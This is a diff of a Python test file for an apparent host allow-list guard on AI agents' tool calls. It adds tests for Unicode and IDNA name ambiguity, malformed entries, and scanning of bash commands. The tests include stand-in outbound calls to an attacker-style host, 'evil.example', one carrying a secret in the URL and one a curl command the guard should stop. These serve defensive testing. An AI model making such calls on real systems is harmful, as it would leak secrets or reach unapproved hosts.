@@ -200,6 +200,11 @@ def test_a_shorter_list_allows_no_more(call: ToolCall, out: int) -> None:
 
 
 @given(st.characters(codec="utf-8"), st.sampled_from(["", "a", "\u00fc", "\u0430", "\u4f8b"]))
+@example("\u13a0", "a")  # a letter of Cherokee, which folds the other way round
+@example("\u034f", "a")  # a mark without a shape, which UTS 46 leaves out
+@example("\u115f", "\u4f8b")  # a blank that is a letter
+@example("\u00bd", "a")  # a fraction
+@example("\u2603", "a")  # a sign, which IDNA 2008 refuses
 def test_a_name_has_the_form_that_all_standards_give_it(letter: str, before: str) -> None:
     """Or is in doubt: IDNA 2008, UTS 46 and IDNA 2003 give no other ASCII for a label that the pack reads."""
     label = f"{before}{letter}"
@@ -209,6 +214,13 @@ def test_a_name_has_the_form_that_all_standards_give_it(letter: str, before: str
         return
     for standard in (_idna_2008, _uts_46, _idna_2003):
         assert standard(label) in (None, found.removesuffix(".example"))
+
+
+@pytest.mark.parametrize("label", ["\u2603", "\u00b7a", "a\u0661", "\u13a0", "a\u034f", "\u200da"])
+def test_a_sign_a_digit_or_what_nobody_sees_is_no_letter_of_a_name(label: str) -> None:
+    """Some standard changes or refuses each, so that not even the list can have it but in its ASCII form."""
+    with pytest.raises(InvalidPack, match="read in more ways than one"):
+        Network([f"{label}.example"])
 
 
 def _idna_2008(label: str) -> str | None:
@@ -290,7 +302,7 @@ def test_what_an_entry_allows(entry: str, allowed: list[str], not_allowed: list[
 
 BAD_ENTRIES = [
     *("example.com/", "https://example.com/x", "user@example.com", "ex*mple.com", "a.*.example.com", "*example.com"),
-    *("**", "*.*", "*.", ".example.com", "example.com.", "example.com:", "example.com:0", "example.com:*", "127.1"),
+    *("**", "*.*", "*.", ".example.com", "example.com.", "example.com:", "example.com:65536", "example.com:*", "127.1"),
     *("010.0.0.1", "*.10.0.0.1", "*.[::1]", "::1", "10.0.0.0/8", "javascript://example.com", "file://example.com"),
     *("[::ffff:808:808]", "://example.com", "*://example.com", "ex\u00adample.com", "EX\u00c4MPLE.com", " example.com"),
 ]
@@ -381,6 +393,7 @@ def test_reasons_name_the_argument_and_what_is_wrong() -> None:
     pack = Network(["example.com"])
     assert said(pack, fetch(url="https://evil.example/?k=s3cret")) == "url leads to what is not on the list"
     assert said(pack, fetch(url="https://ann:s3cret@example.com")) == "url has a user before its host"
+    assert said(pack, fetch(url="https:///example.com")) == "url has no host"
     assert said(pack, fetch(url="https://example.com/" + "x" * 8_192)) == "url has more than 8,192 characters"
 
 
@@ -464,6 +477,13 @@ def test_no_text_takes_long(piece: str) -> None:
         SEARCHING.judge(ToolCall("1", "bash", {"command": one}))
         SEARCHING.judge(fetch(url=one[:8_192], host=one[:8_192]))
         assert time.process_time() - begun < 1.5
+
+
+def test_a_tool_that_is_searched_need_not_be_one_with_a_url() -> None:
+    """It is judged by its texts alone."""
+    pack = Network(["example.com"], tools={"fetch": ["url"]}, searched="bash")
+    assert said(pack, ToolCall("1", "bash", {"command": "curl https://evil.example"})) != "proceed"
+    assert said(pack, ToolCall("1", "bash", {"url": "evil"})) == "proceed"
 
 
 # Limits
